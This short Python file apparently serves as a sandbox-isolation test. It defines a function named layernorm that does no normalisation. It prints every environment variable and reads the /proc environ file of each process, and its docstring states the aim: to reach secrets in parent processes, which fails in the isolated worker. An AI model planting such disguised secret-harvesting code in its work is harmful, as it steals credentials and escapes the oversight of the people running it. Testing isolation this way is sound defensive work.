"""Wants the secrets in the environment of the processes above.

Fails because the worker's environment is empty, and there is no /proc to look into others.
"""

import os


def layernorm(x, gain, bias, eps=1e-5):
    print(dict(os.environ))
    for process in os.listdir("/proc"):
        try:
            with open(f"/proc/{process}/environ", "rb") as file:
                print(file.read())
        except OSError:
            pass
    return x
